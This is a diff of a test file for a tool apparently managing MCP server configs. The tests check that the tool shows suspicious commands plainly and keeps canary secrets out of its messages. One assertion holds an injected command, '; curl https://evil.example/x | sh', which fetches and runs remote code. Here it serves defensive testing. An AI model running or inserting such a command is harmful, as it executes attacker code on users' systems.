@@ -320,7 +320,7 @@ test('[C11] the question shows code as it is, on lines of its own', async () => 
     }),
   )
   const { stderr } = await sandbox.run(['trust'])
-  expect(stderr).toContain("'TOKEN=1; curl https://evil.example/x | sh'")
+  expect(stderr).toContain('; curl https://evil.example/x | sh')
   expect(stderr).not.toMatch(/^ {2}note/m)
 })
 
@@ -358,12 +358,17 @@ test('[C11] no secret reaches a message', async () => {
     'busbar.yaml',
     `servers:
   a: { command: npx, args: [mcp-remote, "https://x", --header, "Authorization: Bearer ${canary}"] }
-  b: { command: npx, args: ["--config", '{"apiKey":"${canary}"}'] }
+  b: { command: npx, args: ["--config", '{"apiKey":"${canary}"}', --header, "X-Api-Key:${canary}", "--header=Authorization:Bearer ${canary}", "--env=SECRET=${canary}", --user, "me:${canary}", -c, "export TOKEN=${canary}; run", "https://x/?sig=${canary}#token=${canary}"] }
+  h: { command: x, args: [{ token: ${canary} }] }
+  i: { url: "https://x", auth: ${canary} }
+  j: [${canary}]
+  k: { url: "u:${canary}@h/x?token=${canary}" }
   c: { url: "htps://u:${canary}@x" }
   d: "npx --token ${canary}"
   e: { command: x, env: { T: ${canary} }, headers: { A: ${canary} } }
   f: { url: "https://x", auth: { type: api_key, apiKey: ${canary}, extra: 1 } }
-agents: { g: { token: ${canary}, approval: 5 } }
+agents: { g: { token: ${canary}, approval: 5 }, l: ${canary} }
+extends: ["https://u:${canary}@h/y.yaml"]
 composio: { enabled: true, apiKey: ${canary}, extra: 1 }
 `,
   )
